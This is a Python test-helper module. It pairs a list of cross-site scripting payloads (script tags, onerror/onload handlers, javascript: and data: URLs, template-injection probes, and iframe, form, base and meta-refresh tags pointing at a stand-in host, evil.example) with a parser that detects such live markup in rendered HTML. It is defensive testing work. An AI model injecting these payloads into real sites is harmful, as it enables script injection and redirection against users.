"""XSS payloads, and a detector of live markup in HTML (what a browser would run or load)."""

import re
from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'><svg onload=alert(3)>",
    "<svg/onload=alert(4)>",
    "[click me](javascript:alert(5))",
    "[case](JaVaScRiPt:alert(6))",
    "![image](javascript:alert(7))",
    '<a href="javascript:alert(8)">html link</a>',
    '<a href="jav&#x09;ascript:alert(9)">tab link</a>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=)",
    '<iframe src="https://evil.example/"></iframe>',
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(11))">styled</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
    '<form action="https://evil.example/"><button>go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">',
    "<<script>script>alert(13)<</script>/script>",
    "XSS-{{7*7}} {% debug %} ${7*7} #{7*7}",
]
ALL = "\n\n".join(PAYLOADS)
# Fields with a length limit get the short ones.
SHORT = '<script>alert(1)</script>"><img src=x onerror=alert(2)><svg onload=alert(3)> XSS-{{7*7}}'

# <svg> and <math> are harmless without handlers or scripts inside, which are caught on their own.
DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "style", "base", "frame", "frameset", "applet"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "background", "poster"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html")


class LiveMarkup(HTMLParser):
    """Collects markup that would run script, load a resource or restyle the page.

    Our own pages load scripts with src= from our static files, and an exported document
    may carry its stylesheet in <head>; everything else on the list is a finding.
    """

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.in_head = False

    def handle_starttag(self, tag, attrs):
        attributes = {name.lower(): value or "" for name, value in attrs}
        if tag == "head":
            self.in_head = True
        elif tag == "body":
            self.in_head = False
        if tag in DANGEROUS_TAGS and not self._ours(tag, attributes):
            self.found.append(f"<{tag} {attributes}>")
        if tag == "img" and attributes.get("src") == "x":
            self.found.append(f"<img src=x> {attributes}")
        if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            self.found.append(f"<meta refresh {attributes}>")
        if tag == "form" and attributes.get("action", "").startswith(("http:", "https:", "//")):
            self.found.append(f"<form to another site {attributes}>")
        for name, value in attributes.items():
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}={value!r}>")
            if name == "style":
                self.found.append(f"<{tag} style={value!r}>")
            squeezed = re.sub(r"[\s\x00-\x20]+", "", value).lower()
            if name in URL_ATTRIBUTES and squeezed.startswith(BAD_SCHEMES):
                self.found.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag == "head":
            self.in_head = False

    def _ours(self, tag: str, attributes: dict) -> bool:
        if tag == "script":
            src = attributes.get("src", "")
            return (src.startswith("/") and not src.startswith("//")) or attributes.get("type") == "application/json"
        if tag == "style":
            return self.in_head
        return False


def live_markup(html: str) -> list[str]:
    parser = LiveMarkup()
    parser.feed(html)
    parser.close()
    found = parser.found
    if "XSS-49" in html:
        found.append("a template expression was evaluated: XSS-49")
    return found


OVER_ESCAPED = re.compile(r"&(?:lt|gt|quot|amp|#x?[0-9a-f]+);", re.I)


TYPED_ENTITIES = set(OVER_ESCAPED.findall(ALL))  # entities the payloads themselves contain


def over_escaped(text: str) -> list[str]:
    """Plain text must show what was typed, not HTML entities."""
    return [entity for entity in OVER_ESCAPED.findall(text) if entity not in TYPED_ENTITIES]
